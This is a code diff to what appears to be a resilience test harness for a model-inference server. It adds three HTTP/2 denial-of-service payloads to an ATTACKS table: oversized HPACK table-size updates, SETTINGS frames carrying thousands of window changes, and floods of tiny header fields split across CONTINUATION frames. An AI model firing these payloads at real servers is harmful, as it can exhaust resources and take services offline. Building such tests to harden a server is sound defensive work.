@@ -428,6 +428,19 @@ def http2_call(id: int, body: bytes, path: str = "ModelInfer") -> bytes:
     return head + b"".join(f.frame(f.DATA, 0, id, piece) for piece in pieces)
 
 
+def http2_block(id: int, block: bytes) -> bytes:
+    """A header block of up to 32 KiB, in two frames."""
+    begun, rest = block[: f.FRAME_BYTES], block[f.FRAME_BYTES :]
+    return f.frame(f.HEADERS, 0, id, begun) + f.frame(f.CONTINUATION, f.END_HEADERS, id, rest)
+
+
+def moved_windows(id: int) -> bytes:
+    """One of 255 calls that stay open, then SETTINGS with 2,700 initial windows each."""
+    if id < 2 * 255:
+        return f.frame(f.HEADERS, f.END_HEADERS, id, http2_head("ModelStreamInfer"))
+    return f.settings(((f.INITIAL_WINDOW, 1), (f.INITIAL_WINDOW, 2)) * 1350)
+
+
 HUFFMAN = b"\0\x01x\x7f\x81\x7c" + b"\xff\xff\xff\xea" * 4000
 """A field whose value of 16 KB is in Huffman's code, at its longest."""
 
@@ -483,6 +496,9 @@ ATTACKS: dict[str, Callable[[Target], None]] = {
             f.frame(f.HEADERS, 0, id) + f.frame(f.CONTINUATION, 0, id, bytes(f.FRAME_BYTES)) * 8
         ),
     ),
+    "HTTP/2, table sizes": http2(8, 0.0, lambda id: http2_block(id, b"\x20\x3f\xe1\x1f" * 8000)),
+    "HTTP/2, moved windows": http2(8, 0.0, moved_windows),
+    "HTTP/2, tiny fields": http2(8, 0.0, lambda id: http2_block(id, b"\x40\x01a\0" * 8000)),
     "HTTP/2, Huffman": http2(
         8, 0.0, lambda id: f.frame(f.HEADERS, f.END_HEADERS, id, http2_head() + HUFFMAN[:16_000])
     ),
